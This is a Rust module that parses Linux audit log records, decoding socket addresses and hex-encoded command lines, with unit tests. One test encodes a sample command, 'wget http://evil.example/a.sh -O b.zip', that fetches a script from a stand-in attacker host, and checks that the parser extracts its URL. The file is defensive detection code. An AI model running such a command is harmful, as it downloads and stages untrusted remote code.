//! The kernel's audit records, as auditd, audispd and the kernel's own log write them.

use memchr::memmem;

use super::Format;
use crate::line::header::Logged;
use crate::line::pairs::Pairs;
use crate::line::reading::{Field, Reading};
use crate::line::{cut, words};

pub(super) const FORMAT: Format = Format { name: "auditd", read };

/// Families of a socket's address as Linux numbers them, in the order of bytes of the machines that gateways are.
const INET: [u8; 2] = [2, 0];
const INET6: [u8; 2] = [10, 0];

fn read<'a>(logged: &Logged<'a>, reading: &mut Reading<'a>) -> bool {
    let Some(record) = cut::after(logged.message, b"audit(").and_then(|rest| cut::after(rest, b"): ")) else {
        return false;
    };
    let is_socket = memmem::find(record, b"saddr=").is_some();
    for pair in Pairs::of(record) {
        // Programs that log in wrap what they say in one field.
        if pair.key == b"msg" {
            Pairs::of(pair.value).for_each(|pair| take(pair.key, pair.value, is_socket, reading));
        } else {
            take(pair.key, pair.value, is_socket, reading);
        }
    }
    true
}

fn take<'a>(key: &[u8], value: &'a [u8], is_socket: bool, reading: &mut Reading<'a>) {
    match key {
        b"saddr" => {
            // What the daemon makes of it follows.
            let value = cut::until(value, b"\x1d");
            if let Some(end) = socket_address(value) {
                reading.take_unescaped(Field::Address, end.into_bytes(), value);
            }
        }
        b"proctitle" => {
            if let Some(title) = title(value) {
                reading.take_unescaped(Field::Text, title, value);
            }
        }
        b"addr" if words::is_address(value) => reading.take(Field::Src, value),
        b"hostname" if words::is_address(value) => reading.take(Field::Address, value),
        b"hostname" => reading.take(Field::Domain, value),
        b"rport" => reading.take(Field::SrcPort, value),
        b"laddr" if is_socket => reading.take(Field::Address, value),
        b"laddr" => reading.take(Field::Dst, value),
        b"lport" if !is_socket => reading.take(Field::DstPort, value),
        b"acct" => reading.take(Field::User, value),
        b"exe" | b"comm" | b"name" | b"cwd" | b"cmd" if !value.contains(&b'/') => {
            reading.take(Field::Nothing, value)
        }
        _ => {}
    }
}

/// The address and port of a `sockaddr_in` or `sockaddr_in6` in hexadecimal digits.
fn socket_address(digits: &[u8]) -> Option<String> {
    let bytes = of_hex(digits.get(..56).unwrap_or(digits))?;
    let (family, rest) = bytes.split_first_chunk::<2>()?;
    let (port, rest) = rest.split_first_chunk::<2>()?;
    let port = u16::from_be_bytes(*port);
    if *family == INET {
        let [a, b, c, d] = rest.first_chunk::<4>()?;
        return Some(format!("{a}.{b}.{c}.{d}:{port}"));
    }
    let address = rest.get(4..)?.first_chunk::<16>().filter(|_| *family == INET6)?;
    Some(format!("[{}]:{port}", std::net::Ipv6Addr::from(*address)))
}

/// A command line, which is written in hexadecimal digits when it has more than one word; `None` when it is no text.
fn title(digits: &[u8]) -> Option<Vec<u8>> {
    let mut bytes = of_hex(digits)?;
    for byte in &mut bytes {
        if *byte == 0 {
            *byte = b' ';
        }
    }
    bytes.iter().all(|byte| *byte >= b' ' || byte.is_ascii_whitespace()).then_some(bytes)
}

fn of_hex(digits: &[u8]) -> Option<Vec<u8>> {
    let value = |digit: u8| char::from(digit).to_digit(16).and_then(|value| u8::try_from(value).ok());
    if digits.is_empty() || !digits.len().is_multiple_of(2) {
        return None;
    }
    digits.chunks_exact(2).map(|pair| Some(value(*pair.first()?)? << 4 | value(*pair.last()?)?)).collect()
}

#[cfg(test)]
mod tests {
    use super::super::made::{check, check_not};
    use super::*;

    #[test]
    fn addresses_of_sockets_are_decoded() {
        check(
            &FORMAT,
            "type=SOCKADDR msg=audit(1795341600.579:2995): saddr=020001BBCB0071050000000000000000",
            &["log.text 203.0.113.5:443"],
        );
        check(
            &FORMAT,
            "type=SOCKADDR msg=audit(1795341600.579:2995): saddr=0A0001BB0000000020010DB800000000000000000000000500000000\x1dSADDR={ saddr_fam=inet6 laddr=2001:db8::5 lport=443 }",
            &["log.text 2001:db8::5:443", "log.text 2001:db8::5"],
        );
        for saddr in ["0100", "0200", "02", "0", "", "zz", "0200ABé1"] {
            check(&FORMAT, &format!("type=SOCKADDR msg=audit(1.1:1): saddr={saddr}"), &[]);
        }
    }

    #[test]
    fn command_lines_are_read_as_text() {
        let title: String =
            "wget\0http://evil.example/a.sh\0-O\0b.zip".bytes().map(|byte| format!("{byte:02X}")).collect();
        check(
            &FORMAT,
            &format!("type=PROCTITLE msg=audit(1795341600.579:2995): proctitle={title}"),
            &["log.url http://evil.example/a.sh", "log.domain evil.example", "log.domain b.zip"],
        );
        check(&FORMAT, "type=PROCTITLE msg=audit(1795341600.579:2995): proctitle=00FF01", &[]);
        check(
            &FORMAT,
            "type=PROCTITLE msg=audit(1795341600.579:2995): proctitle=\"a.sh\"",
            &["log.domain a.sh"],
        );
    }

    #[test]
    fn logins_and_files() {
        check(
            &FORMAT,
            "type=USER_LOGIN msg=audit(1795341600.579:2995): pid=1 uid=0 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=a.example addr=203.0.113.5 terminal=ssh res=failed'",
            &["log.src 203.0.113.5", "log.domain a.example"],
        );
        check(
            &FORMAT,
            "gw kernel: audit: type=1400 audit(1795341600.829:88986): apparmor=\"DENIED\" name=\"x.sh\" comm=\"svc.py\" exe=\"/tmp/a.zip\"",
            &[],
        );
        check_not(&FORMAT, "audit: backlog");
    }
}
